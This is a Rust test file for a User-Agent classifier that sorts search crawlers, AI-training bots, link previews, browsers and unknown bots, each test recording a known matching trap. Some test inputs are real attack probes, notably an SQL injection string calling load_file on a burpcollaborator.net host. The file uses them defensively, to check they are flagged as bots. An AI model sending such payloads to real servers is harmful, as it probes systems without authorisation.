//! The known traps of User-Agent matching, each a regression test (issue #2).
// Test code: a fixture that fails to load should fail the test loudly.
#![allow(clippy::unwrap_used)]

use tollgate_agents::{Catalogue, Class, UaMatch, UaMatcher};

fn classify(ua: &str) -> (String, Class) {
    let c = Catalogue::embedded().unwrap();
    let m = UaMatcher::new(&c).unwrap();
    let got = m.match_ua(ua.as_bytes());
    let name = match got {
        UaMatch::Agent(id) => c.agent(id).name.clone(),
        other => format!("{other:?}"),
    };
    (name, got.class(&c))
}

#[test]
fn git_from_vscode_is_a_tool_not_an_ai_agent() {
    // ai.robots.txt#233: the `Code` token matched VS Code's git.
    let (name, class) = classify("git/2.43.0 vscode/1.96.2 (Visual Studio Code)");
    assert_eq!((name.as_str(), class), ("git", Class::Tool));
}

#[test]
fn baiduspider_is_search_not_a_generic_spider() {
    let (name, class) = classify(
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    );
    assert_eq!((name.as_str(), class), ("Baiduspider", Class::Search));
}

#[test]
fn sogou_web_spider_is_search_not_a_generic_spider() {
    let (name, class) =
        classify("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)");
    assert_eq!((name.as_str(), class), ("Sogou web spider", Class::Search));
}

#[test]
fn slcc1_in_old_internet_explorer_matches_nothing() {
    let (name, class) = classify(
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; SLCC1; .NET CLR 2.0.50727; Media Center PC 5.0; .NET CLR 3.0.04506)",
    );
    assert_eq!((name.as_str(), class), ("Browser", Class::Browser));
}

#[test]
fn ccbot_with_its_faq_url_is_ccbot() {
    let (name, class) = classify("CCBot/2.0 (https://commoncrawl.org/faq/)");
    assert_eq!((name.as_str(), class), ("CCBot", Class::AiTraining));
}

#[test]
fn facebookexternalhit_is_a_link_preview_not_ai_training() {
    let (name, class) =
        classify("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)");
    assert_eq!(
        (name.as_str(), class),
        ("facebookexternalhit", Class::Preview)
    );
}

#[test]
fn google_extended_is_robots_only_and_never_matched() {
    let c = Catalogue::embedded().unwrap();
    for token in ["Google-Extended", "Applebot-Extended"] {
        let id = c.by_product_token(token).next().unwrap();
        let a = c.agent(id);
        assert!(a.robots_only, "{token}");
        assert!(a.patterns.is_empty(), "{token}");
    }
    // A UA that mentions the token is not that agent.
    let (name, _) = classify("Mozilla/5.0 (compatible; Google-Extended/1.0)");
    assert_ne!(name, "Google-Extended");
}

#[test]
fn gptbot_is_ai_training_by_openai() {
    let (name, class) = classify(
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    );
    assert_eq!((name.as_str(), class), ("GPTBot", Class::AiTraining));
}

#[test]
fn empty_user_agent_is_an_unknown_bot() {
    let c = Catalogue::embedded().unwrap();
    let m = UaMatcher::new(&c).unwrap();
    assert_eq!(m.match_ua(b""), UaMatch::Empty);
    assert_eq!(m.match_ua(b"-"), UaMatch::Empty);
    assert_eq!(m.match_ua(b"-").class(&c), Class::UnknownBot);
}

fn is(ua: &str, name: &str, class: Class) {
    let (got_name, got_class) = classify(ua);
    assert_eq!((got_name.as_str(), got_class), (name, class), "{ua}");
}

#[test]
fn mozilla_prefix_alone_is_not_a_platform() {
    is(
        "Mozilla/5.0 Keydrop",
        "UnknownBot(\"no platform\")",
        Class::UnknownBot,
    );
    is(
        "Mozilla/5.0 infrawatch/0.1",
        "UnknownBot(\"no platform\")",
        Class::UnknownBot,
    );
}

#[test]
fn a_browser_engine_token_with_a_version_is_a_platform() {
    is(
        "Mozilla/5.0 (compatible; Konqueror/3.4; CYGWIN_NT-5.1) KHTML/3.4.89 (like Gecko)",
        "Browser",
        Class::Browser,
    );
    // A template with placeholders names no engine version.
    is(
        "Mozilla/5.0 (platform; rv:geckoversion) Gecko/geckotrail Firefox/firefoxversion",
        "UnknownBot(\"no platform\")",
        Class::UnknownBot,
    );
}

#[test]
fn a_compatible_comment_without_a_platform_is_a_bot() {
    is(
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; BW/1.2) Chrome/124.0.0.0 Safari/537.36",
        "UnknownBot(\"compatible without platform\")",
        Class::UnknownBot,
    );
    is(
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322)",
        "Browser",
        Class::Browser,
    );
}

#[test]
fn an_obfuscated_email_address_is_a_bot_marker() {
    is(
        "Mozilla/5.0 (compatible; +centuryb.o.t9[at]gmail.com)",
        "UnknownBot(\"[at]\")",
        Class::UnknownBot,
    );
    is(
        "Mozilla/5.0/Firefox/42.0 - nbertaupete95(at)gmail.com",
        "UnknownBot(\"(at)\")",
        Class::UnknownBot,
    );
    is(
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:80.0) Gecko/20100101 Firefox/80.0 Measurement/2023 (contact; stijn; at; ucsb.edu;)",
        "UnknownBot(\"; at;\")",
        Class::UnknownBot,
    );
}

#[test]
fn an_email_host_may_start_with_a_digit() {
    is(
        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 Safari/537.36 root@8f6gtjctw9.burpcollaborator.net",
        "UnknownBot(\"@\")",
        Class::UnknownBot,
    );
}

#[test]
fn a_host_name_is_a_bot_marker_but_not_an_app_id_or_a_versioned_product() {
    is(
        "Mozilla/5.0 (X11; Linux i586; rv:31.0) Gecko/20100101 Firefox/31.0 PrintFriendly.com",
        "UnknownBot(\".com\")",
        Class::UnknownBot,
    );
    is(
        "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 com.example.app/1.0",
        "Browser",
        Class::Browser,
    );
    is(
        "Mozilla/5.0 (Windows; U; Windows NT 6.0; de; rv:1.9.1.6) Gecko/20091201 (WEB.DE/1.5) Firefox/3.5.6 (.NET CLR 3.5.30729)",
        "Browser",
        Class::Browser,
    );
}

#[test]
fn a_homepage_beside_the_platform_is_not_a_bot_marker_but_a_page_is() {
    is(
        "XBMC/9.04-beta1 r19639 (Windows; Windows XP Professional Service Pack 2 build 2600; http://www.xbmc.org)",
        "Browser",
        Class::Browser,
    );
    is(
        "Mozilla/5.0 (Windows NT 6.1; WOW64; https://top.mail.ru/passremind) AppleWebKit/537.22 (KHTML, like Gecko)",
        "UnknownBot(\"https://\")",
        Class::UnknownBot,
    );
}

#[test]
fn scanner_words_are_bot_markers_but_camscanner_is_an_app() {
    is(
        "Mozilla/5.0 OnlyScans",
        "UnknownBot(\"scan\")",
        Class::UnknownBot,
    );
    is(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 ContentScan/3.0",
        "UnknownBot(\"scan\")",
        Class::UnknownBot,
    );
    is(
        "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.123 Mobile Safari/537.36 CamScanner/4.8.5.2310271827",
        "Browser",
        Class::Browser,
    );
}

#[test]
fn names_ending_in_what_a_program_does_are_bot_markers() {
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
    is(
        &format!("{chrome} AcmeImageProxy/1.0"),
        "UnknownBot(\"proxy\")",
        Class::UnknownBot,
    );
    is(
        &format!("{chrome} AcmeAuditor"),
        "UnknownBot(\"auditor\")",
        Class::UnknownBot,
    );
}

#[test]
fn a_header_without_a_version_number_is_not_a_browser() {
    is(
        "Linux Gnu (cow)",
        "UnknownBot(\"no version\")",
        Class::UnknownBot,
    );
}

#[test]
fn a_millisecond_timestamp_as_a_version_is_a_bot_marker() {
    is(
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:77.0) Gecko/20100101 Firefox/77.0 Time/1710630666672",
        "UnknownBot(\"time/\")",
        Class::UnknownBot,
    );
}

#[test]
fn sql_injection_and_field_separators_are_bot_markers() {
    is(
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.142 Safari/537.36'+(select load_file('x97.burpcollaborator.netszc'))+'",
        "UnknownBot(\"(select \")",
        Class::UnknownBot,
    );
    is(
        "iphone|Mozilla/5.0 (iPhone; CPU iPhone OS 8_7_7; like Mac OS X) AppleWebKit/535.47 (KHTML, like Gecko)  Chrome/47.0.2531.349 Mobile Safari/533.7",
        "UnknownBot(\"|\")",
        Class::UnknownBot,
    );
}

#[test]
fn only_the_first_4_kib_of_a_user_agent_are_classified() {
    // Bounds the work per header (a 100 KB "bota…" header used to take 1.9 s; the speed of such
    // headers is in benches/classify.rs).
    let c = Catalogue::embedded().unwrap();
    let m = UaMatcher::new(&c).unwrap();
    let pad = "x".repeat(tollgate_agents::matcher::MAX_UA_BYTES);
    let late = format!("Mozilla/5.0 (X11; Linux x86_64) {pad} GPTBot/1.2");
    assert_ne!(m.match_ua(late.as_bytes()).class(&c), Class::AiTraining);
    let early = format!("GPTBot/1.2 {pad}");
    assert_eq!(m.match_ua(early.as_bytes()).class(&c), Class::AiTraining);
}
